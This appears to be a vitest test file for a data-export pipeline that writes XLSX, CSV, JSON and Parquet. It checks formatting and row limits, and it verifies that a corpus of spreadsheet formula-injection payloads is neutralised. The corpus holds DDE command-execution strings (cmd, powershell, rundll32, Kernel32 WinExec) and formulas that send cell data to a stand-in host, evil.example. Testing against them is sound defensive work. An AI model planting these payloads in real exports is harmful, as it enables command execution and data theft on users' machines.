import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { encodeTable } from '../../pipeline/encode-table.ts';
import type { Table, TableColumn } from '../../pipeline/table.ts';
import { Warehouse } from '../../pipeline/warehouse.ts';
import { writeXlsx, XLSX_MAX_ROWS } from '../../pipeline/write-xlsx.ts';

const COLUMNS: readonly TableColumn[] = [
  { id: 'name', label: 'Name', type: 'text' },
  { id: 'amount', label: 'Amount', type: 'decimal', scale: 2, unit: 'EUR' },
];

/** What a spreadsheet might run, as somebody could name a campaign. */
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|' /C powershell'!A0",
  'WEBSERVICE("http://evil.example")',
  'A1:A9',
  '"quoted, and parted"',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'EXEC("calc.exe")',
  'CALL("Kernel32","WinExec","JCJ","calc",0)',
  'REGISTER.ID("Kernel32","WinExec")',
  'INDIRECT("A1")',
  'IMPORTDATA("http://evil.example/?"&B2)',
  'IMPORTFEED("http://evil.example")',
  'IMPORTRANGE("id","A1:Z9")',
  'IMAGE("http://evil.example/"&A2)',
  'RTD("evil.server",,"x")',
  'SUM(A1:A9)*2',
  'A1',
  'tab\there',
  '',
];
const HEADS = ['=', '+', '-', '@', '\t=', '\r=', '\0=', '−', '＝', '＋', '－', '＠', '\n='];
const CORPUS = HEADS.flatMap((head) => BODIES.map((body) => `${head}${body}`));

const tableOf = (rows: Table['rows']): Table => ({
  columns: COLUMNS,
  rows,
  totals: null,
  totalRows: rows.length,
  truncated: false,
  meta: {},
});

describe('a spreadsheet', () => {
  const sheets = [
    {
      name: 'ROI',
      columns: COLUMNS,
      rows: [
        ['a', '-12.50'],
        ['b', null],
      ] as const,
    },
  ];

  it('is the same bytes every time', async () => {
    const [once, again] = [await writeXlsx(sheets, { title: 't' }), await writeXlsx(sheets, { title: 't' })];
    expect(Buffer.from(once).equals(Buffer.from(again))).toBe(true);
  });

  it('has its header frozen and filtered, numbers as numbers with their format, nothing for null', async () => {
    const book = await readXlsx(await writeXlsx(sheets, { title: 't' }), { readStyles: true });
    const [sheet] = book.sheets;
    expect(sheet.rows).toEqual([
      ['name', 'amount'],
      ['a', -12.5],
      ['b', null],
    ]);
    expect(sheet.freezePane).toEqual({ rows: 1 });
    // the table has the filter: Excel mends, and complains of, a file with both
    expect(sheet.autoFilter).toBeUndefined();
    expect(sheet.cells?.get('1,1')?.style?.numFmt).toBe('#,##0.00');
  });

  it('is a named table of all rows, and prints all of them below its header', async () => {
    const bytes = await writeXlsx(
      [...sheets, { ...sheets[0], name: 'Read-me' }, { ...sheets[0], name: 'Empty', rows: [] }],
      {
        title: 't',
      },
    );
    const book = await readXlsx(bytes, { readStyles: true });
    const tables = book.sheets.map((sheet) =>
      (sheet.tables ?? []).map(({ name, range, columns, showAutoFilter }) => ({
        name,
        range,
        columns: columns.map((column) => column.name),
        showAutoFilter,
      })),
    );
    const columns = ['name', 'amount'];
    expect(tables).toEqual([
      [{ name: 'liftproof_roi', range: 'A1:B3', columns, showAutoFilter: true }],
      [{ name: 'liftproof_read_me', range: 'A1:B3', columns, showAutoFilter: true }],
      // a table has a row at least
      [],
    ]);
    expect(book.sheets.map((sheet) => [sheet.pageSetup?.printArea, sheet.pageSetup?.printTitlesRow])).toEqual([
      ['$A$1:$B$3', '$1:$1'],
      ['$A$1:$B$3', '$1:$1'],
      ['$A$1:$B$1', '$1:$1'],
    ]);
    expect(book.sheets[2].autoFilter?.range).toBe('A1:B1');
  });

  it('keeps digits that a spreadsheet number would lose', async () => {
    const book = await readXlsx(
      await writeXlsx([{ name: 'x', columns: COLUMNS, rows: [['a', '12345678901234567.89']] }], { title: 't' }),
    );
    expect(book.sheets[0].rows[1][1]).toBe('12345678901234567.89');
  });

  it('refuses more rows than a spreadsheet takes, and says what to do', async () => {
    const rows = Array.from({ length: XLSX_MAX_ROWS + 1 }, () => ['a', '1']);
    await expect(writeXlsx([{ name: 'ROI', columns: COLUMNS, rows }], { title: 't' })).rejects.toMatchObject({
      code: 'too_large',
      message: expect.stringMatching(/100001 rows.*csv or parquet/),
    });
  });

  it('runs nothing of a corpus of formulas: text stays text, and no cell is a formula', async () => {
    const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
    const book = await readXlsx(await writeXlsx([{ name: 'ROI', columns: COLUMNS, rows }], { title: 't' }), {
      readStyles: true,
    });
    const [sheet] = book.sheets;
    expect([...(sheet.cells?.values() ?? [])].filter((cell) => cell.formula !== undefined)).toEqual([]);
    sheet.rows.slice(1).forEach((row, i) => {
      expect(typeof row[0]).toBe('string');
      expect(row[1]).toBe(-i - 0.25);
    });
  });
});

describe('CSV', () => {
  it('has a corpus of 300 and more to guard against', () => expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(300));

  it('guards every text cell of the corpus by an apostrophe, and no number', async () => {
    const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
    const csv = Buffer.from(await encodeTable(tableOf(rows), 'csv')).toString('utf8');
    // the guard is the first character of the cell, quoted or not
    const cells = csv
      .match(/(?:^|\r\n)(?:"(?:[^"]|"")*"|[^,]*),-?[\d.]+/g)!
      .map((line) => line.trim().replace(/^"/, ''));
    expect(cells).toHaveLength(CORPUS.length);
    expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual([]);
    expect(csv).toContain(',-5.25');
    expect(csv).not.toContain(",'-");
  });

  it('is the only form that changes the text: JSON, NDJSON and Parquet give it back as it is', async () => {
    const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
    const json = JSON.parse(Buffer.from(await encodeTable(tableOf(rows), 'json')).toString('utf8'));
    expect(json.data.map((row: { name: string }) => row.name)).toEqual(CORPUS);
    const lines = Buffer.from(await encodeTable(tableOf(rows), 'ndjson'))
      .toString('utf8')
      .trim()
      .split('\n');
    expect(lines.slice(1, -1).map((line) => JSON.parse(line).name)).toEqual(CORPUS);
    const warehouse = await Warehouse.open(':memory:');
    const folder = mkdtempSync(join(tmpdir(), 'liftproof-corpus-'));
    try {
      const path = join(folder, 'corpus.parquet');
      writeFileSync(path, await encodeTable(tableOf(rows), 'parquet'));
      const read = await warehouse.rows<{ name: string; amount: string }>(
        `select name, cast(amount as varchar) as amount from read_parquet('${path}')`,
      );
      expect(read).toEqual(CORPUS.map((name, i) => ({ name, amount: `-${i}.25` })));
    } finally {
      warehouse.close();
      rmSync(folder, { recursive: true });
    }
  });

  it('leaves harmless text alone', async () => {
    const harmless = ['a=b', 'spring-sale', '(none)', '1+1', 'jane@example', ''];
    const csv = Buffer.from(await encodeTable(tableOf(harmless.map((text) => [text, '1'])), 'csv')).toString('utf8');
    expect(csv).not.toContain("'");
  });
});
